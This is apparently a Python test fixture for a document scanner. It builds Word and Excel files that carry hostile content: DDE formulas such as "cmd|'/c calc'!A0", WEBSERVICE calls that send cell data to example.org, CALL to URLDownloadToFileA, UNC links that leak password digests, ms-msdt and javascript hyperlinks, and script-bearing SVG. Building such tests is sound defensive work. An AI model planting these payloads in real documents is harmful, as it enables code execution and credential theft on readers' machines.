"""Office files that bring something along: fields, formulas and links that load from elsewhere or start a program."""

from tests.files.making import a_docx, an_xlsx, excel_parts, relationships

ELSEWHERE = "from elsewhere"
FORMULA = "a formula that is not taken"
ENCODING = "an encoding that is not read"
SHARE = "\\\\example.org\\share\\a"


def field(instruction: str) -> bytes:
    written = instruction.replace("&", "&amp;").replace('"', "&quot;")
    return a_docx(f'<w:p><w:fldSimple w:instr="{written}"/></w:p>')


def field_of(*runs: str) -> bytes:
    """A field over several runs: `{`, `|` and `}` turn, all else is instruction."""
    turns = {"{": "begin", "|": "separate", "}": "end"}
    body = "".join(
        f'<w:r><w:fldChar w:fldCharType="{turns[run]}"/></w:r>' if run in turns else f"<w:instrText>{run}</w:instrText>"
        for run in runs
    )
    return a_docx(f"<w:p>{body}</w:p>")


def formula(text: str, attributes: str = "") -> bytes:
    written = text.replace("&", "&amp;").replace("<", "&lt;")
    return an_xlsx(f'<row><c t="str"><f{attributes}>{written}</f><v>1</v></c></row>')


def a_name(attributes: str, text: str = "名簿!$A$1") -> bytes:
    names = f'<definedNames><definedName name="a" {attributes}>{text}</definedName></definedNames>'
    book = str(excel_parts()["xl/workbook.xml"]).replace("</sheets>", f"</sheets>{names}")
    return an_xlsx(parts={"xl/workbook.xml": book})


def beside_the_text(content: str | bytes, name: str = "word/footer1.xml") -> bytes:
    return a_docx(parts={name: content})


def linked(kind: str, target: str, mode: str = "External") -> bytes:
    return beside_the_text(relationships(kind, target, mode), "word/_rels/document.xml.rels")


FIELDS = (
    ('LINK Excel.Sheet.8 "http://example.org/a.xlsx"', "a part of a document on another machine"),
    ('INCLUDEPICTURE "http://example.org/a.png" \\d', "a picture from the web that tells who reads"),
    ('includetext "\\\\\\\\example.org\\\\a.docx"', "a text from a share that collects passwords"),
    ('INCLUDE "a.docx"', "the same by its old name"),
    ('IMPORT "a.png"', "a picture by an old name"),
    ("DDE Excel a b", "a conversation with a program"),
    ("DATABASE \\d a \\c b", "a query that runs on opening"),
    ("RD a.docx", "a further document"),
    ("MACROBUTTON a b", "a button that starts a macro"),
    ("GOTOBUTTON a b", "a button"),
    ("PRINT 27", "commands to the printer"),
    ("ADDIN a", "data of an add-in"),
    ("EMBED Package", "an object inside"),
    ("AUTOTEXT a", "text of the reader's own template"),
    ("FILLIN a", "a question on opening"),
    ("HTMLCONTROL a", "a control"),
    ("WHATEVER a", "a field that nobody knows"),
    ('HYPERLINK "\\\\\\\\example.org\\\\a"', "a press that shows the password's digest to another machine"),
    ("HYPERLINK \\\\\\\\example.org\\\\a", "the same without quotation marks"),
    ('HYPERLINK "file:///c:/windows/system32/calc.exe"', "a press that starts a program"),
    ('HYPERLINK "ms-msdt:/id a"', "a press that hands something to a program"),
    ('HYPERLINK "javascript:alert(1)"', "a press that runs a script"),
)
IN_PIECES = (
    (("{", "{", ' QUOTE "DDE" ', "}", " c:\\\\a", "}"), "a field that gives the name of the field around it"),
    (("{", " IN", "CLUDE", "PICTURE", " a", "|", "PAGE", "}"), "a name cut into pieces"),
    (("{", " PAGE ", "|", "{", " LINK a ", "}", "}"), "a field in the result of another"),
    (("{", " LINK a "), "a field without an end"),
    ((" LINK a ",), "an instruction without a field"),
)
FORMULAS = (
    ("cmd|'/c calc'!A0", ELSEWHERE, "a program started by a cell"),
    ("'cmd'|'/c calc'!A0", ELSEWHERE, "the same in quotation marks"),
    ("SUM(1,MSEXCEL|'\\..\\..\\cmd.exe'!'_'!A0)", ELSEWHERE, "the same inside a sum"),
    ('WEBSERVICE("http://example.org/"&A1)', FORMULA, "a cell sent to the web"),
    ('_xlfn.WEBSERVICE("http://example.org")', FORMULA, "the same as newer programs write it"),
    ('IF(TRUE,webservice("http://example.org"))', FORMULA, "the same inside, in small letters"),
    ('_xlfn.IMAGE("https://example.org/a.png")', FORMULA, "a picture from the web"),
    ('RTD("a.b",,"c")', FORMULA, "data of a program"),
    ('CALL("urlmon","URLDownloadToFileA","JJCCJJ",0)', FORMULA, "a library of the machine"),
    ('REGISTER.ID("a","b")', FORMULA, "the same, prepared"),
    ('EXEC("calc")', FORMULA, "a macro of Excel 4 in a cell"),
    ('CUBEVALUE("a","b")', FORMULA, "a data connection"),
    ("_xll.A()", FORMULA, "a function of an add-in"),
    ("A_Function (1)", FORMULA, "a function that nobody knows"),
    ("[1]名簿!A1", ELSEWHERE, "a cell of another workbook"),
    ("'\\\\example.org\\share\\[a.xlsx]名簿'!A1", ELSEWHERE, "a cell of a workbook on a share"),
    ('HYPERLINK("\\\\example.org\\a","名簿")', ELSEWHERE, "a press that shows the password's digest"),
    ('HYPERLINK("file:///c:/a.exe","名簿")', ELSEWHERE, "a press that starts a program"),
)
VML = '<xml xmlns:v="urn:schemas-microsoft-com:vml"><v:shape><v:imagedata {}/></v:shape></xml>'
SHEET = '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData/>{}</worksheet>'
VALIDATION = "<dataValidations><dataValidation><formula1>{}</formula1></dataValidation></dataValidations>"
SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink">{}</svg>'
INSTRUCTION = '<?xml version="1.0" encoding="{}"?><w:p xmlns:w="w"><w:instrText>LINK 表</w:instrText></w:p>'
PARTS = (
    (beside_the_text(VML.format('src="http://example.org/a.png"'), "word/a.vml"), "a drawing from the web"),
    (beside_the_text(VML.format(f'src="{SHARE}"'), "word/a.vml"), "a drawing from a share"),
    (beside_the_text(VML.format('o:althref="http://a"  xmlns:o="o"'), "word/a.vml"), "the same by another name"),
    (
        beside_the_text(VML.replace("<v:shape>", '<v:shape href="file:///c:/a.exe">').format(""), "word/a.vml"),
        "a press",
    ),
    (beside_the_text("<customUI onLoad='a'/>", "customUI/customUI.xml"), "a ribbon that calls on opening"),
    (beside_the_text("<x:customUI xmlns:x='x' onLoad='a'/>", "word/a.xml"), "the same under another name"),
    (
        beside_the_text("<w:settings xmlns:w='w'><w:mailMerge/></w:settings>", "word/settings.xml"),
        "a list of addresses",
    ),
    (beside_the_text(SVG.format("<script/>"), "word/media/a.svg"), "a picture with a script"),
    (beside_the_text(SVG.format('<image x:href="http://a/b.png"/>'), "word/media/a.svg"), "a picture in a picture"),
    (beside_the_text(INSTRUCTION.format("Shift_JIS").encode("cp932")), "a field in another encoding"),
    (beside_the_text(INSTRUCTION.format("EUC-JP").encode("euc-jp")), "the same in a third"),
    (beside_the_text(INSTRUCTION.format("UTF-16").encode("utf-16")), "the same in wide characters"),
    (linked("image", "file:a.png", ""), "a picture by the scheme of files"),
    (linked("image", "//example.org/a.png", ""), "a picture from another machine"),
    (linked("hyperlink", SHARE), "a press that shows the password's digest to another machine"),
    (linked("hyperlink", "file:///c:/a.exe"), "a press that starts a program"),
    (linked("hyperlink", "search-ms:query=a&amp;crumb=location:b"), "a press that hands something to a program"),
)
SHEETS = (
    (an_xlsx(parts={"xl/queryTables/a.xml": "<queryTable/>"}), "a query that runs on opening"),
    (a_name('xlm="1"'), "a name that is a macro of Excel 4"),
    (a_name('vbProcedure="1" function="true"'), "a name that is a macro"),
    (a_name("", "cmd|'/c calc'!A0"), "a program started by a name"),
    (
        an_xlsx(parts={"xl/worksheets/sheet1.xml": SHEET.format(VALIDATION.format("cmd|'/c calc'!A0"))}),
        "a program started by a rule for cells",
    ),
)
HOSTILE_OFFICE = (
    *(("field.docx", tries, field(instruction), ELSEWHERE) for instruction, tries in FIELDS),
    *(("pieces.docx", tries, field_of(*runs), ELSEWHERE) for runs, tries in IN_PIECES),
    *(("formula.xlsx", tries, formula(text), says) for text, says, tries in FORMULAS),
    *(("part.docx", tries, content, ELSEWHERE) for content, tries in PARTS),
    *(("sheet.xlsx", tries, content, ELSEWHERE) for content, tries in SHEETS),
    ("utf7.docx", "an encoding that hides", beside_the_text(b'<?xml version="1.0" encoding="utf-7"?><x/>'), ENCODING),
    ("strange.docx", "an unknown encoding", beside_the_text(b'<?xml version="1.0" encoding="x-a"?><x/>'), ENCODING),
    (
        "not-so.docx",
        "another one than declared",
        beside_the_text(INSTRUCTION.format("euc-jp").encode("cp932")),
        "broken",
    ),
)
